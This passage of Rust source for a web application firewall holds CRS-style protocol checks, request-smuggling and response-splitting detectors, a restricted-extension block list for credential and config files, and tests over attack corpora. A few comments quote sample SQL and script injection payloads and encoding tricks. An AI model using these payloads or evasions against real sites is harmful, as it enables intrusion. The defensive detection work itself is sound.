    "cer",
    "cfg",
    "cmd",
    "com",
    "config",
    "conf",
    "cs",
    "csproj",
    "csr",
    "dat",
    "db",
    "dbf",
    "dll",
    "dos",
    "htr",
    "htw",
    "ida",
    "idc",
    "idq",
    "inc",
    "ini",
    "key",
    "licx",
    "lnk",
    "log",
    "mdb",
    "old",
    "pass",
    "pdb",
    "pol",
    "printer",
    "pwd",
    "rdb",
    "resources",
    "resx",
    "sql",
    "swp",
    "sys",
    "vb",
    "vbs",
    "vbproj",
    "vsdisco",
    "webinfo",
    "xsd",
    "xsx",
];

/// The rule that scores requests over the size limits and walks stopped at a cap.
pub const LIMITS_RULE: u32 = protocol_ids::LIMITS;

/// Protocol rules, scored in code rather than by pattern.
mod protocol_ids {
    pub const METHOD: u32 = 911100;
    pub const REQUEST_LINE: u32 = 920100;
    pub const CONTENT_LENGTH: u32 = 920160;
    pub const BODY_ON_GET: u32 = 920170;
    pub const LENGTH_AND_CHUNKED: u32 = 920181;
    pub const URL_ENCODING: u32 = 920220;
    pub const NUL_BYTE: u32 = 920270;
    pub const MISSING_HOST: u32 = 920280;
    pub const EMPTY_HOST: u32 = 920290;
    pub const IP_HOST: u32 = 920350;
    pub const LIMITS: u32 = 920380;
    pub const CONTENT_TYPE: u32 = 920420;
    pub const VERSION: u32 = 920430;
    pub const EXTENSION: u32 = 920440;
    pub const RESTRICTED_HEADER: u32 = 920450;
    pub const BODY_PARSE: u32 = 920480;
    pub const SMUGGLING: u32 = 921110;
    pub const SPLITTING: u32 = 921120;
    pub const HEADER_INJECTION: u32 = 921140;
    pub const ARG_NEWLINE: u32 = 921150;
    pub const ALL: &[u32] = &[
        METHOD,
        REQUEST_LINE,
        CONTENT_LENGTH,
        BODY_ON_GET,
        LENGTH_AND_CHUNKED,
        URL_ENCODING,
        NUL_BYTE,
        MISSING_HOST,
        EMPTY_HOST,
        IP_HOST,
        LIMITS,
        CONTENT_TYPE,
        VERSION,
        EXTENSION,
        RESTRICTED_HEADER,
        BODY_PARSE,
        SMUGGLING,
        SPLITTING,
        HEADER_INJECTION,
        ARG_NEWLINE,
    ];
}

struct Hits<'a> {
    rules: BTreeSet<u32>,
    classes: BTreeSet<Class>,
    score: u32,
    log_only: &'a BTreeSet<u32>,
    logged: Vec<u32>,
    logged_score: u32,
}

impl Hits<'_> {
    fn add(&mut self, id: u32, class: Class, score: u8) {
        if self.rules.insert(id) {
            self.classes.insert(class);
            if self.log_only.contains(&id) {
                self.logged.push(id);
                self.logged_score += u32::from(score);
            } else {
                self.score += u32::from(score);
            }
        }
    }
}

/// A value's four views (decoded, compact, shell, path; see `view_index`). In most values
/// several are the same text: each distinct text is kept once, and `of` says which text each
/// view is, so that a text is searched once however many views it is.
struct Views {
    texts: Vec<String>,
    of: [usize; 4],
}

impl Views {
    /// The text of view `index`.
    fn text(&self, index: usize) -> &str {
        self.of
            .get(index)
            .and_then(|t| self.texts.get(*t))
            .map_or("", String::as_str)
    }

    /// The number of `text`, added unless an earlier view is that text already.
    fn add(&mut self, text: String) -> usize {
        match self.texts.iter().position(|t| *t == text) {
            Some(known) => known,
            None => {
                self.texts.push(text);
                self.texts.len() - 1
            }
        }
    }
}

fn views_of(value: &str) -> Views {
    // Percent-decoding, escapes and entities hide each other (`&#37;2e`, `%26lt;`, `\\x25`):
    // the three run in turn until nothing changes (at most four rounds, each linear).
    // Plain ASCII with nothing to decode (most values) skips the rounds: each would copy it
    // unchanged.
    let plain = value.is_ascii()
        && !normalize::any_byte(value.as_bytes(), |b| matches!(b, b'%' | b'&' | b'\\'));
    let mut decoded = value.to_string();
    let rounds = if plain { 0 } else { 4 };
    for _ in 0..rounds {
        let next = normalize::html_entity_decode(&normalize::escape_decode(
            &normalize::url_decode_repeated(&decoded, false),
        ));
        if next == decoded {
            break;
        }
        decoded = next;
    }
    let decoded = normalize::canonical(&decoded);
    // Without comments the compact view only collapses whitespace, and without shell quoting
    // the shell view is that same text. `None`: the view is the text it was made from.
    let commented = normalize::has_comment(&decoded);
    let compact = if commented {
        Some(normalize::strip_comments(&decoded))
    } else {
        owned(normalize::collapse_whitespace(&decoded))
    };
    let shell = match normalize::shell_view(&decoded) {
        Cow::Borrowed(_) if !commented => None,
        unquoted => Some(normalize::collapse_whitespace(&unquoted).into_owned()),
    };
    let path = owned(normalize::path_view(&decoded));
    let mut views = Views {
        texts: vec![decoded],
        of: [0; 4],
    };
    let compact = compact.map_or(0, |text| views.add(text));
    let shell = shell.map_or(compact, |text| views.add(text));
    let path = path.map_or(0, |text| views.add(text));
    views.of = [0, compact, shell, path];
    views
}

/// A normaliser's text when it made a new one.
fn owned(text: Cow<'_, str>) -> Option<String> {
    match text {
        Cow::Borrowed(_) => None,
        Cow::Owned(text) => Some(text),
    }
}

fn view_index(view: View) -> usize {
    match view {
        View::Decoded => 0,
        View::Compact => 1,
        View::Shell => 2,
        View::Path => 3,
    }
}

fn in_scope(rule: &RuleDef, location: Location) -> bool {
    let bit = match location {
        Location::Path => rules::PATH,
        Location::ArgName | Location::ArgValue | Location::RawBody => rules::ARGS,
        Location::Secret => rules::SECRETS,
        Location::Cookie => rules::COOKIES,
        Location::Header => rules::HEADERS,
        Location::Filename => rules::FILES,
    };
    rule.scope & bit != 0
}

impl Waf {
    pub fn new(config: WafConfig) -> Self {
        Self::build(config, true)
    }

    /// `split`: see `CompiledView::build`.
    fn build(config: WafConfig, split: bool) -> Self {
        let mut factor_ids = std::collections::BTreeMap::new();
        let mut needs = Vec::new();
        let mut views: Vec<CompiledView> = [View::Decoded, View::Compact, View::Shell, View::Path]
            .into_iter()
            .map(|view| {
                let rules: Vec<usize> = RULES
                    .iter()
                    .enumerate()
                    .filter(|(_, r)| r.view == view && r.paranoia <= config.paranoia)
                    .map(|(i, _)| i)
                    .collect();
                CompiledView::build(view, rules, &mut factor_ids, &mut needs, split)
                    .unwrap_or_else(|e| unreachable!("the rule test compiles every pattern: {e}"))
            })
            .collect();
        assert!(
            needs.len() <= NeedSet::CAPACITY,
            "more factored needs than a need set holds"
        );
        let mut opens = vec![(GroupSet::default(), NeedSet::default()); factor_ids.len()];
        for (need, factors) in needs.iter().enumerate() {
            for id in factors {
                if let Some((_, met)) = opens.get_mut(*id) {
                    met.insert(need);
                }
            }
        }
        for (slot, group) in views.iter_mut().flat_map(|v| &mut v.groups).enumerate() {
            assert!(
                slot < GroupSet::CAPACITY,
                "more pattern groups than a group set holds"
            );
            group.slot = slot;
            for id in &group.gate.factors {
                if let Some((groups, _)) = opens.get_mut(*id) {
                    groups.insert(slot);
                }
            }
        }
        let warm_up = config.caps.warm_up_states;
        let factors = Factors::build(factor_ids, opens)
            .unwrap_or_else(|e| unreachable!("the rule test builds the factor automaton: {e}"));
        Self {
            config,
            views,
            factors,
            caches: Mutex::new(Vec::new()),
            header_memo: Mutex::new(std::collections::HashMap::new()),
            warm_up: AtomicUsize::new(warm_up),
            prefilter: true,
        }
    }

    pub fn config(&self) -> &WafConfig {
        &self.config
    }

    /// Inspects a request and decides. The work is linear in the request's size and bounded by
    /// the configured limits: what is over a size limit is scored and not read, and the walk
    /// over arguments stops at its caps (also scored).
    pub fn inspect(&self, request: &WafRequest) -> Verdict {
        let mut hits = Hits {
            rules: BTreeSet::new(),
            classes: BTreeSet::new(),
            score: 0,
            log_only: &self.config.report_only.rules,
            logged: Vec::new(),
            logged_score: 0,
        };
        let oversize = self.protocol(request, &mut hits);
        let caches = self
            .caches
            .lock()
            .ok()
            .and_then(|mut pool| pool.pop())
            .unwrap_or_else(|| {
                self.views
                    .iter()
                    .flat_map(|v| &v.groups)
                    .map(|g| g.dfa.create_cache())
                    .collect()
            });
        let path = request.path();
        let exclusion = self
            .config
            .exclusions
            .iter()
            .find(|e| route_matches(e.method, e.path, &request.method, path));
        let body_excluded = matches!(exclusion.map(|e| &e.scope), Some(ExclusionScope::Body));
        let (excluded_args, secret_args): (&[&str], &[&str]) = match exclusion.map(|e| &e.scope) {
            Some(ExclusionScope::Args(args)) => (args, &[]),
            Some(ExclusionScope::Secrets(args)) => (&[], args),
            _ => (&[], &[]),
        };
        let named = |args: &[&str], name: &str| {
            args.iter()
                .any(|a| name == *a || name.strip_prefix("json.") == Some(a))
        };
        let parts = request::Parts {
            uri: !oversize.uri,
            headers: !oversize.headers,
            body: !oversize.body && !body_excluded,
        };
        let caps = self.config.caps;
        // The warm-up allowance refills a little with every request: a request that spent it
        // (an attack, say) leaves it empty for a few hundred requests, not for the isolate's
        // life. A request may thus build 1/256 of it more than its own budget, on average.
        let full = caps.warm_up_states;
        let _ = self
            .warm_up
            .fetch_update(Ordering::Relaxed, Ordering::Relaxed, |left| {
                (left < full).then(|| left.saturating_add(full / WARM_UP_REFILLS).min(full))
            });
        let mut scan = Scan {
            caches,
            spent: 0,
            budget: caps
                .scan_per_byte
                .saturating_mul(parts.bytes(request))
                .saturating_add(caps.scan_floor),
            spent_out: false,
            grown: 0,
            states_left: caps
                .states_per_byte
                .saturating_mul(parts.bytes(request))
                .saturating_add(caps.states_floor),
            warm_up: &self.warm_up,
        };
        let walked = request::walk(request, caps, parts, &mut |target| {
            let mut target = target;
            if target.location == Location::ArgValue {
                if named(excluded_args, target.name) {
                    return true;
                }
                if named(secret_args, target.name) {
                    target.location = Location::Secret;
                }
            }
            self.scan(&target, &mut scan, &mut hits);
            !scan.spent_out
        });
        if let Ok(mut pool) = self.caches.lock() {
            pool.push(scan.caches);
        }
        if walked.cap_hit.is_some() {
            hits.add(protocol_ids::LIMITS, Class::Protocol, rules::CRITICAL);
        }
        // A body that does not parse as its content type is still scanned as raw text; only from
        // paranoia 2 on is the broken body itself an anomaly (at 1 the function answers it with a
        // precise 400 instead of a block).
        if !walked.body_parsed && self.config.paranoia >= 2 {
            hits.add(protocol_ids::BODY_PARSE, Class::Protocol, rules::CRITICAL);
        }
        let threshold = self.config.threshold;
        let route_logs = self.config.report_only.route_mode(&request.method, path) == Mode::Log;
        let action = if hits.score >= threshold {
            if route_logs {
                Action::Log
            } else {
                Action::Block
            }
        } else if hits.score + hits.logged_score >= threshold {
            Action::Log
        } else {
            Action::Allow
        };
        hits.logged.sort_unstable();
        Verdict {
            action,
            score: hits.score,
            rules: hits.rules.into_iter().collect(),
            classes: hits.classes,
            logged_rules: hits.logged,
            logged_score: hits.logged_score,
            scanned_bytes: scan.spent,
            state_bytes: scan.grown,
        }
    }

    fn scan(&self, target: &Target<'_>, scan: &mut Scan, hits: &mut Hits<'_>) {
        if target.value.is_empty() {
            return;
        }
        // Header values repeat across requests (a browser's User-Agent, Accept, Accept-Language):
        // what they match is remembered, bounded; a value seen for the first time costs a scan.
        let memo = target.location == Location::Header && target.value.len() <= HEADER_MEMO_VALUE;
        if memo
            && let Ok(known) = self.header_memo.lock()
            && let Some(found) = known.get(target.value)
        {
            for (id, class, score) in found {
                hits.add(*id, *class, *score);
            }
            return;
        }
        let found = self.findings(target, scan);
        for (id, class, score) in &found {
            hits.add(*id, *class, *score);
        }
        // What a scan cut short by the budget found is not all the value would trip.
        if memo
            && !scan.spent_out
            && let Ok(mut known) = self.header_memo.lock()
        {
            if known.len() >= HEADER_MEMO_ENTRIES {
                known.clear();
            }
            known.insert(target.value.to_string(), found);
        }
    }

    /// What opens the pattern groups' gates for text `index` of `views`: the bytes present and
    /// the factors found, searched once per distinct text. None when the budget cannot pay for
    /// the search.
    fn gates_of(
        &self,
        views: &Views,
        index: usize,
        searched: &mut [Option<(ByteSet, (GroupSet, NeedSet))>; 4],
        scan: &mut Scan,
    ) -> Option<(ByteSet, (GroupSet, NeedSet))> {
        if let Some(known) = searched.get(index).copied().flatten() {
            return Some(known);
        }
        if !self.prefilter {
            return Some((ByteSet::ALL, (GroupSet::ALL, NeedSet::ALL)));
        }
        let text = views.texts.get(index).map_or("", String::as_str);
        // The factor search is a pass over the text like a group's: it is paid for.
        if !scan.take(text.len()) {
            return None;
        }
        let opened = self.factors.find(text.as_bytes());
        let known = (ByteSet::of(text.as_bytes()), opened);
        if let Some(slot) = searched.get_mut(index) {
            *slot = Some(known);
        }
        Some(known)
    }

    /// The rules a target's value trips: (rule id, class, score) each.
    fn findings(&self, target: &Target<'_>, scan: &mut Scan) -> Vec<Finding> {
        let mut found_rules = Vec::new();
        // CR/LF in argument names or header values: header injection and smuggling.
        if matches!(
            target.location,
            Location::ArgName | Location::Header | Location::Cookie
        ) && (target.value.contains('\n') || target.value.contains('\r'))
        {
            let id = if target.location == Location::ArgName {
                protocol_ids::ARG_NEWLINE
            } else {
                protocol_ids::HEADER_INJECTION
            };
            found_rules.push((id, Class::Protocol, rules::CRITICAL));
        }
        let views = views_of(target.value);
        // The views of plain text are mostly the same text again: what was found in one (its
        // bytes, its factors) serves every view equal to it.
        let mut searched: [Option<(ByteSet, (GroupSet, NeedSet))>; 4] = [None; 4];
        'views: for compiled in &self.views {
            let own = views.of[view_index(compiled.view)];
            // Where the comment-stripped view differs, its rules read the decoded text as well:
            // a comment can hold a whole payload for another language (`/*<script>…</script>*/`
            // is markup, `<!--' or 1=1-->` is SQL), and collapsing whitespace alone can lose
            // what a rule reads (a control byte is no space to `\S` before it becomes one).
            let also_decoded = compiled.view == View::Compact && own != 0;
            for index in std::iter::once(own).chain(also_decoded.then_some(0)) {
                // A budget spent (the walk's states, say) ends the value's search here.
                if scan.spent_out {
                    break 'views;
                }
                let text = views.texts.get(index).map_or("", String::as_str);
                if text.is_empty() {
                    continue;
                }
                let Some((present, opened)) = self.gates_of(&views, index, &mut searched, scan)
                else {
                    break 'views;
                };
                let mut found = Vec::new();
                compiled.matches(text.as_bytes(), &present, &opened, scan, &mut found);
                for m in found {
                    let rule = &RULES[m];
                    if in_scope(rule, target.location) {
                        found_rules.push((rule.id, rule.class, rule.score));
                    }
                }
            }
        }
        if matches!(
            target.location,
            Location::ArgValue
                | Location::RawBody
                | Location::Header
                | Location::Cookie
                | Location::Path
        ) {
            let lower = views.text(0);
            // Both need a line break (or a character that truncates to one, or a written
            // `\r`/`\n`): most values have none.
            let may_break = !lower.is_ascii()
                || normalize::any_byte(lower.as_bytes(), |b| matches!(b, b'\n' | b'\r' | b'\\'));
            if !may_break {
                return found_rules;
            }
            if smuggled_request(lower) {
                found_rules.push((protocol_ids::SMUGGLING, Class::Protocol, rules::CRITICAL));
            }
            // In a query string or a path, a line of its own that starts like any header
            // (`Header-Test: x`) is one, and so it is wherever the line break was encoded
            // (`%0d%0a`, `\r\n`): text with real lines (`Note: …`) may have such lines.
            let encoded_break = !target.value.contains(['\n', '\r']);
            let any_header = target.in_query || target.location == Location::Path || encoded_break;
            if split_response(lower, any_header) {
                found_rules.push((protocol_ids::SPLITTING, Class::Protocol, rules::CRITICAL));
            }
        }
        found_rules
    }

    /// Protocol checks; returns which parts are over their size limits (scored here, not read).
    fn protocol(&self, request: &WafRequest, hits: &mut Hits<'_>) -> Oversize {
        use protocol_ids::*;
        use rules::{CRITICAL, WARNING};
        let p = Class::Protocol;
        let header_bytes: usize = request
            .headers
            .iter()
            .map(|(n, v)| n.len() + v.len() + 4)
            .sum();
        let oversize = Oversize {
            uri: request.uri.len() > self.config.max_uri_bytes,
            headers: request.headers.len() > self.config.max_headers
                || request
                    .headers
                    .iter()
                    .any(|(n, v)| n.len() + v.len() > self.config.max_header_bytes)
                || header_bytes > 4 * self.config.max_header_bytes,
            body: request.body.len() > self.config.max_body_bytes,
        };
        if oversize.uri || oversize.headers || oversize.body {
            hits.add(LIMITS, p, CRITICAL);
        }
        for issue in &request.issues {
            let id = match issue {
                ProtocolIssue::MalformedRequestLine | ProtocolIssue::MalformedHeader => {
                    REQUEST_LINE
                }
                ProtocolIssue::ConflictingLength | ProtocolIssue::BadTransferEncoding => {
                    LENGTH_AND_CHUNKED
                }
                ProtocolIssue::InvalidContentLength | ProtocolIssue::MultipleContentLength => {
                    CONTENT_LENGTH
                }
                ProtocolIssue::MissingHost => MISSING_HOST,
                ProtocolIssue::NulInHeaders => NUL_BYTE,
                ProtocolIssue::UnparseableBody => BODY_PARSE,
            };
            hits.add(id, p, CRITICAL);
        }
        if !ALLOWED_METHODS.contains(&request.method.as_str()) {
            hits.add(METHOD, p, CRITICAL);
        }
        if !ALLOWED_VERSIONS.contains(&request.version.as_str()) {
            hits.add(VERSION, p, CRITICAL);
        }
        let lengths: Vec<&str> = request.headers_named("content-length").collect();
        if lengths.len() > 1 && lengths.windows(2).any(|w| w[0].trim() != w[1].trim()) {
            hits.add(CONTENT_LENGTH, p, CRITICAL);
        }
        if lengths
            .iter()
            .any(|l| l.trim().is_empty() || !l.trim().bytes().all(|b| b.is_ascii_digit()))
        {
            hits.add(CONTENT_LENGTH, p, CRITICAL);
        }
        let chunked = request.header("transfer-encoding");
        if chunked.is_some() && !lengths.is_empty() {
            hits.add(LENGTH_AND_CHUNKED, p, CRITICAL);
        }
        if let Some(te) = chunked
            && !te.trim().eq_ignore_ascii_case("chunked")
        {
            hits.add(LENGTH_AND_CHUNKED, p, CRITICAL);
        }
        if matches!(request.method.as_str(), "GET" | "HEAD")
            && (!request.body.is_empty() || lengths.iter().any(|l| l.trim() != "0"))
        {
            hits.add(BODY_ON_GET, p, CRITICAL);
        }
        match request.header("host") {
            None => hits.add(MISSING_HOST, p, WARNING),
            Some(h) if h.trim().is_empty() => hits.add(EMPTY_HOST, p, WARNING),
            Some(h) => {
                let host = h
                    .trim()
                    .trim_start_matches('[')
                    .split(']')
                    .next()
                    .unwrap_or_default();
                let host = host
                    .rsplit_once(':')
                    .filter(|(_, port)| port.bytes().all(|b| b.is_ascii_digit()))
                    .map_or(host, |(h, _)| h);
                if host.parse::<std::net::IpAddr>().is_ok() {
                    hits.add(IP_HOST, p, WARNING);
                }
            }
        }
        if !request.body.is_empty()
            && let Some(ct) = request.header("content-type")
        {
            let mime = ct
                .split(';')
                .next()
                .unwrap_or_default()
                .trim()
                .to_ascii_lowercase();
            let allowed = ALLOWED_CONTENT_TYPES.contains(&mime.as_str())
                || mime.ends_with("+json")
                || mime.ends_with("+xml");
            if !allowed {
                hits.add(CONTENT_TYPE, p, CRITICAL);
            }
        }
        if request
            .headers
            .iter()
            .any(|(n, _)| RESTRICTED_HEADERS.iter().any(|r| n.eq_ignore_ascii_case(r)))
        {
            hits.add(RESTRICTED_HEADER, p, CRITICAL);
        }
        if oversize.uri {
            return oversize;
        }
        let path = normalize::url_decode_repeated(request.path(), false).to_ascii_lowercase();
        if let Some(ext) = path
            .rsplit('/')
            .next()
            .and_then(|last| last.rsplit_once('.'))
            .map(|(_, e)| e)
            && RESTRICTED_EXTENSIONS.contains(&ext)
        {
            hits.add(EXTENSION, p, CRITICAL);
        }
        if invalid_percent_encoding(&request.uri) {
            hits.add(URL_ENCODING, p, WARNING);
        }
        if request.uri.contains('\0')
            || request.uri.contains("%00") && !request.uri.contains("%00/")
        {
            hits.add(NUL_BYTE, p, CRITICAL);
        }
        oversize
    }
}

/// Parts of a request over the WAF's size limits.
#[derive(Debug, Clone, Copy, Default)]
struct Oversize {
    uri: bool,
    headers: bool,
    body: bool,
}

fn invalid_percent_encoding(s: &str) -> bool {
    let b = s.as_bytes();
    b.iter().enumerate().any(|(i, c)| {
        *c == b'%'
            && !(b.get(i + 1).is_some_and(u8::is_ascii_hexdigit)
                && b.get(i + 2).is_some_and(u8::is_ascii_hexdigit))
            && !(b.get(i + 1).is_some_and(|u| *u == b'u' || *u == b'U'))
    })
}

const SMUGGLE_METHODS: &[&str] = &[
    "get", "post", "head", "options", "connect", "put", "delete", "trace", "track", "patch",
];

fn smuggled_request(text: &str) -> bool {
    text.split(['\n', '\r']).skip(1).any(|line| {
        let mut parts = line.split_whitespace();
        matches!((parts.next(), parts.next(), parts.next()), (Some(m), Some(_), Some(v)) if SMUGGLE_METHODS.contains(&m) && v.starts_with("http/"))
    })
}

/// Whether a line after the first starts a response header: a real line break, a character
/// whose low byte is one (`嘊嘍`, `čĊ`: servers that truncate to a byte see CR LF), or a written
/// `\r` / `\n`. A `0a` left by `%%0a0a` before the header counts as nothing.
fn split_response(text: &str, any_header: bool) -> bool {
    let is_break = |c: char| {
        let code = u32::from(c);
        c == '\n' || c == '\r' || (code > 0xff && matches!(code & 0xff, 0x0a | 0x0d))
    };
    // Written escapes only where a backslash is (most values have none: no copy then).
    let broken = if text.contains("\\r") || text.contains("\\n") {
        std::borrow::Cow::Owned(text.replace("\\r", "\n").replace("\\n", "\n"))
    } else {
        std::borrow::Cow::Borrowed(text)
    };
    broken.split(is_break).skip(1).any(|line| {
        let line = line.trim_start_matches(|c: char| !c.is_alphanumeric());
        let line = line
            .strip_prefix("0a")
            .or_else(|| line.strip_prefix("0d"))
            .unwrap_or(line);
        const HEADERS: &[&str] = &[
            "content-type:",
            "content-length:",
            "set-cookie:",
            "location:",
            "http/1.",
            "refresh:",
            "content-security-policy:",
            "access-control-allow-",
            "transfer-encoding:",
            "cache-control:",
        ];
        HEADERS.iter().any(|h| line.starts_with(h))
            || extension_header(line)
            || (any_header && header_line(line))
    })
}

/// `name: value` at the start of a line, `name` a header token (letters, digits, `-`).
fn header_line(line: &str) -> bool {
    let name_len = line
        .bytes()
        .take_while(|b| b.is_ascii_alphanumeric() || *b == b'-')
        .count();
    name_len > 0 && line[name_len..].trim_start().starts_with(':')
}

/// `x-anything: value` at the start of a line: an injected extension header.
fn extension_header(line: &str) -> bool {
    line.strip_prefix("x-").is_some_and(header_line)
}

#[cfg(test)]
mod tests {
    use super::*;

    /// Every corpus the repository holds, and the CRS corpus when `../shared` is present.
    fn all_corpora() -> Vec<(String, Vec<(serde_json::Value, WafRequest)>)> {
        let root = std::path::Path::new(env!("CARGO_MANIFEST_DIR"));
        let mut paths: Vec<std::path::PathBuf> = std::fs::read_dir(root.join("corpora/attacks"))
            .expect("attack corpora")
            .filter_map(|e| e.ok().map(|e| e.path()))
            .filter(|p| p.extension().is_some_and(|x| x == "jsonl"))
            .collect();
        paths.sort();
        paths.push(root.join("corpora/ordinary.jsonl"));
        paths.push(root.join("corpora/benign.jsonl"));
        let crs = root.join("../../shared/corpora/crs/crs-regression.jsonl");
        if crs.exists() {
            paths.push(crs);
        } else {
            // The test command requires the corpora wherever they are laid out beside the
            // checkout.
            assert!(
                std::env::var_os("REGROOTER_REQUIRE_CORPORA").is_none(),
                "REGROOTER_REQUIRE_CORPORA is set but {} is missing",
                crs.display()
            );
            eprintln!(
                "notice: {} is absent; the CRS corpus is left out",
                crs.display()
            );
        }
        paths
            .into_iter()
            .map(|p| {
                let text = std::fs::read_to_string(&p).expect("corpus");
                let requests = corpus::read_all(&text).expect("corpus lines");
                (p.display().to_string(), requests)
            })
            .collect()
    }

    /// A verdict's decision, without its cost.
    fn decision(verdict: Verdict) -> Verdict {
        Verdict {
            scanned_bytes: 0,
            state_bytes: 0,
            ..verdict
        }
    }

    /// What walking `text` with a group of `pattern` charges, from an unlimited allowance,
    /// on a cold cache.
    fn growth_charged(pattern: &str, text: &str) -> usize {
        let hir = syntax::parse_with(pattern, &dfa_syntax()).expect("pattern");
        let group = PatternGroup::build(vec![0], &[&hir], Gate::default(), false).expect("group");
        let mut cache = group.dfa.create_cache();
        let walker = Walker::start(&group, &mut cache, text.as_bytes());
        let mut allowance = StateAllowance::of(usize::MAX);
        let mut found = Vec::new();
        assert!(
            walk_together(
                walker.into_iter().collect(),
                text.as_bytes(),
                &mut found,
                &mut allowance
            )
            .within
        );
        allowance.charged
    }

    #[test]
    fn the_states_a_dfa_builds_are_paid_from_the_budget() {
        // A counted window opened at many places (the form 934200 once had): a new state at
        // nearly every byte of `{{` scattered in text.
        let counted = r"\{\{[^}]{0,200}x";
        let bytes = 64 * 1024;
        let scattered = hostile::scattered("{{", bytes);
        let costly = growth_charged(counted, &scattered);
        let caps = Caps::default();
        let budget = caps.states_per_byte * bytes + caps.states_floor;
        assert!(
            costly > 10 * budget,
            "{costly} charged, a budget is {budget}"
        );
        // Text without the opener, and the rule's form today (one uncounted window at a
        // time), need a few states, once.
        let plain = growth_charged(counted, &"plain words, ".repeat(bytes / 13));
        let one_window = growth_charged(r"\{\{[^{}]*x", &scattered);
        assert!(
            plain < 64 * 1024 && one_window < 64 * 1024,
            "{plain}, {one_window}"
        );
        // And the walk stops once the budget is spent.
        let hir = syntax::parse_with(counted, &dfa_syntax()).expect("pattern");
        let group = PatternGroup::build(vec![0], &[&hir], Gate::default(), false).expect("group");
        let mut cache = group.dfa.create_cache();
        let walker = Walker::start(&group, &mut cache, scattered.as_bytes());
        let mut allowance = StateAllowance::of(budget);
        assert!(
            !walk_together(
                walker.into_iter().collect(),
                scattered.as_bytes(),
                &mut Vec::new(),
                &mut allowance
            )
            .within
        );
        assert_eq!(allowance.left, 0);
    }

    #[test]
    fn the_warm_up_allowance_pays_past_a_request_budget_once() {
        let pool = AtomicUsize::new(100);
        let mut allowance = StateAllowance {
            left: 50,
            warm_up: Some(&pool),
            charged: 0,
        };
        assert!(allowance.charge(30));
        assert!(allowance.charge(60), "20 left, 40 from the pool");
        assert_eq!((allowance.left, pool.load(Ordering::Relaxed)), (0, 60));
        assert!(!allowance.charge(61), "the pool holds 60");
        assert_eq!(
            pool.load(Ordering::Relaxed),
            60,
            "a refused charge takes nothing"
        );
        assert!(allowance.charge(60));
        assert!(!allowance.charge(1), "spent");
        assert_eq!(allowance.charged, 212);
    }

    #[test]
    fn no_rule_needs_a_new_state_per_byte() {
        // Invariant 17: each rule alone, over each of its literal factors scattered in text
        // (the opener of any counted window among them), needs few states, and those once: a
        // second text of the same kind, other places, builds next to nothing. The template
        // rules' windows once built ~180 bytes of states per byte here.
        // The same for the pieces a rule is split into (see `Piece`), each over the factors
        // of its alternatives, the anchored ones walked anchored.
        let bytes = 4 * 1024;
        let mut worst = (0.0, 0, String::new());
        let whole = RULES.iter().enumerate().filter_map(|(i, rule)| {
            let hir = syntax::parse_with(rule.pattern, &dfa_syntax()).expect("pattern");
            let factors = prefilter::factors(&hir)?;
            Some((i, hir, false, factors))
        });
        let pieces = (0..RULES.len())
            .flat_map(|i| Piece::of(i, true).expect("pattern"))
            .map(|piece| {
                let factors = piece
                    .needs
                    .iter()
                    .flat_map(|n| n.factors.iter().flatten().cloned())
                    .collect();
                (piece.rule, piece.hir, piece.anchored, factors)
            });
        for (i, hir, anchored, factors) in whole.chain(pieces) {
            let rule = &RULES[i];
            let group =
                PatternGroup::build(vec![i], &[&hir], Gate::default(), anchored).expect("group");
            for factor in factors.iter().take(8) {
                let atom = String::from_utf8_lossy(factor).to_string();
                let mut cache = group.dfa.create_cache();
                let mut grown = 0;
                for seed in [0x9e37_79b9_7f4a_7c15, 0x2545_f491_4f6c_dd1d] {
                    let text = hostile::scattered_from(&atom, bytes, seed);
                    let walker = Walker::start(&group, &mut cache, text.as_bytes());
                    let mut allowance = StateAllowance::of(usize::MAX);
                    walk_together(
                        walker.into_iter().collect(),
                        text.as_bytes(),
                        &mut Vec::new(),
                        &mut allowance,
                    );
                    grown = allowance.charged;
                }
                let per_byte = grown as f64 / bytes as f64;
                if per_byte > worst.0 {
                    worst = (per_byte, rule.id, atom);
                }
            }
        }
        assert!(
            worst.0 < 0.5,
            "rule {} over {:?} scattered: {:.2} bytes of new states per byte",
            worst.1,
            worst.2,
            worst.0
        );
    }

    #[test]
    fn groups_walked_together_find_what_each_finds_alone() {
        // Every group over every view of every corpus value (and the hostile families'), side
        // by side and then one at a time: the same rules.
        let waf = Waf::new(WafConfig {
            paranoia: 4,
            ..WafConfig::default()
        });
        let mut caches: Vec<Cache> = waf
            .views
            .iter()
            .flat_map(|v| &v.groups)
            .map(|g| g.dfa.create_cache())
            .collect();
        let hostile = hostile::families(512).into_iter().map(|c| c.request);
        let requests = all_corpora()
            .into_iter()
            .flat_map(|(_, r)| r.into_iter().map(|(_, r)| r))
            .chain(hostile);
        let mut values = 0;
        let mut matched = 0;
        for request in requests {
            for (_, _, value) in request::targets(&request).0 {
                for text in views_of(&value).texts {
                    for view in &waf.views {
                        let first = view.groups.first().map_or(0, |g| g.slot);
                        let slice = &mut caches[first..first + view.groups.len()];
                        let walkers = view
                            .groups
                            .iter()
                            .zip(slice.iter_mut())
                            .filter_map(|(g, c)| Walker::start(g, c, text.as_bytes()))
                            .collect();
                        let mut together = Vec::new();
                        walk_together(
                            walkers,
                            text.as_bytes(),
                            &mut together,
                            &mut StateAllowance::of(usize::MAX),
                        );
                        let mut alone = Vec::new();
                        for (group, cache) in view.groups.iter().zip(slice.iter_mut()) {
                            let walker = Walker::start(group, cache, text.as_bytes());
                            walk_together(
                                walker.into_iter().collect(),
                                text.as_bytes(),
                                &mut alone,
                                &mut StateAllowance::of(usize::MAX),
                            );
                        }
                        together.sort_unstable();
                        alone.sort_unstable();
                        assert_eq!(together, alone, "{text:?}");
                        matched += together.len();
                    }
                    values += 1;
                }
            }
        }
        assert!(
            values > 10_000 && matched > 5_000,
            "{values} values, {matched} matches"
        );
    }

    #[test]
    fn the_byte_prefilter_never_changes_a_verdict() {
        let corpora = all_corpora();
        let hostile: Vec<(serde_json::Value, WafRequest)> = hostile::families(2048)
            .into_iter()
            .chain(hostile::reported())
            .map(|c| (c.name.into(), c.request))
            .collect();
        let mut compared = 0;
        let mut blocked = 0;
        for paranoia in [1, 4] {
            // Without the gates every group searches every value (and builds its states): no
            // budgets, so that both search everything.
            let config = WafConfig {
                paranoia,
                caps: Caps {
                    scan_per_byte: usize::MAX,
                    states_per_byte: usize::MAX,
                    ..Caps::default()
                },
                ..WafConfig::default()
            };
            let filtered = Waf::new(config.clone());
            // Nor are patterns split at their start-anchored alternatives.
            let unfiltered = Waf {
                prefilter: false,
                ..Waf::build(config, false)
            };
            for (name, requests) in corpora
                .iter()
                .map(|(n, r)| (n.as_str(), r))
